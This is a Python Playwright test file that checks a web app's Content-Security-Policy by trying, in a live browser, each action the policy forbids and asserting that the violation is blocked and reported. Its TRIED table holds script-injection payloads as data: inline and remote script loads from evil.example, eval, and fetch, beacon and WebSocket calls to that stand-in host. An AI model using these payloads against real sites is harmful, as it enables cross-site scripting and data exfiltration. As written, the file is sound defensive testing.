"""The page's Content-Security-Policy, obeyed by a real browser: each thing that it forbids is tried in the page itself.

A breach shows as an event that says which directive it was; the witness of the hostile texts listens for the same.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from kit.browser import new_context
from kit.hosted import Hosted
from kit.people import Seat
from playwright.sync_api import Browser, Page

from security.witness import Witness

ELSEWHERE = "https://evil.example"
TAG = "(tag, set) => document.body.append(Object.assign(document.createElement(tag), set))"
TRIED = {
    "script-src-elem inline": f"({TAG})('script', {{ textContent: '__pwned=1' }})",
    "script-src-elem elsewhere": f"({TAG})('script', {{ src: '{ELSEWHERE}/x.js' }})",
    "script-src-elem data": f"({TAG})('script', {{ src: 'data:text/javascript,__pwned=1' }})",
    "script-src-elem module": f"import('{ELSEWHERE}/x.js').catch(() => 0)",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<p onclick=__pwned=1>')",
    "script-src eval": "setTimeout(() => { try { return eval('__pwned=1') } catch { } })",
    "script-src function": "setTimeout(() => { try { return new Function('__pwned=1')() } catch { } })",
    "script-src timer": "void setTimeout('__pwned=1')",
    "style-src-elem inline": f"({TAG})('style', {{ textContent: '*{{}}' }})",
    "style-src-elem elsewhere": f"({TAG})('link', {{ rel: 'stylesheet', href: '{ELSEWHERE}/x.css' }})",
    "style-src-attr": "document.body.insertAdjacentHTML('beforeend', '<p style=color:red>')",
    "img-src": f"({TAG})('img', {{ src: '{ELSEWHERE}/x.png' }})",
    "media-src": f"({TAG})('video', {{ src: '{ELSEWHERE}/x.mp4' }})",
    "font-src": f"new FontFace('x', 'url({ELSEWHERE}/x.woff)').load().catch(() => 0)",
    "connect-src fetch": f"fetch('{ELSEWHERE}/').catch(() => 0)",
    "connect-src beacon": f"navigator.sendBeacon('{ELSEWHERE}/', 'x')",
    "connect-src socket": "(() => { try { new WebSocket('wss://evil.example/') } catch { } })()",
    "frame-src": f"({TAG})('iframe', {{ src: '{ELSEWHERE}/' }})",
    "object-src": f"({TAG})('object', {{ data: '{ELSEWHERE}/x' }})",
    "worker-src": "(() => { try { new Worker('data:,__pwned=1') } catch { } })()",
    "base-uri": f"document.head.append(Object.assign(document.createElement('base'), {{ href: '{ELSEWHERE}/' }}))",
    "form-action": f"(() => {{ const form = document.createElement('form'); form.action = '{ELSEWHERE}/';"
    " document.body.append(form); form.submit(); })()",
}
"""What would break it, by the directive that the browser names, and a word to tell those of one directive apart."""

TOLD = """() => new Promise((done) => {
  const until = performance.now() + 20_000;
  const look = () => {
    const told = window.__seen.policy;
    if (told.length || performance.now() > until) done(told);
    else requestAnimationFrame(look);
  };
  look();
})"""
"""What the browser has told; waiting for a condition in another way would need eval, which the page forbids."""


@pytest.fixture
def page(browser: Browser, hub: Hosted) -> Iterator[tuple[Page, Witness]]:
    """The owner's page, alone; nothing that this page asks for elsewhere is answered."""
    context = new_context(browser)
    opened = context.new_page()
    context.route(f"{ELSEWHERE}/**", lambda route: route.abort())
    witness = Witness(opened)
    opened.goto(hub.served.owner_url)
    Seat(opened).root.wait_for()
    yield opened, witness
    context.close()


def test_the_page_itself_breaks_nothing(page: tuple[Page, Witness]) -> None:
    page[1].finds_nothing()


def test_each_breach_is_stopped_and_told(page: tuple[Page, Witness]) -> None:
    opened, _ = page
    for name, code in TRIED.items():
        directive = name.split(" ")[0]
        opened.evaluate("window.__seen.policy.length = 0")
        opened.evaluate(f"void ({code})")  # the debugger's own words may eval, so what does is called later
        told = opened.evaluate(TOLD)
        assert told, name
        assert told[0].startswith(directive), (name, told)
    assert opened.evaluate("window.__seen.ran") == []


def test_no_other_site_may_frame_the_page(browser: Browser, hub: Hosted) -> None:
    context = new_context(browser)
    page = context.new_page()
    served = hub.served
    elsewhere = served.url.replace("127.0.0.1", "localhost")
    for address, frames in ((served.url, True), (elsewhere, False)):
        page.goto(f"{served.url}notice.css")
        page.evaluate(
            "(src) => new Promise((done) => document.documentElement.append(Object.assign("
            "document.createElement('iframe'), { src, onload: done })))",
            address,
        )
        text = page.frames[-1].evaluate("document.documentElement.outerHTML")
        assert ("nbchat" in text) == frames
    context.close()
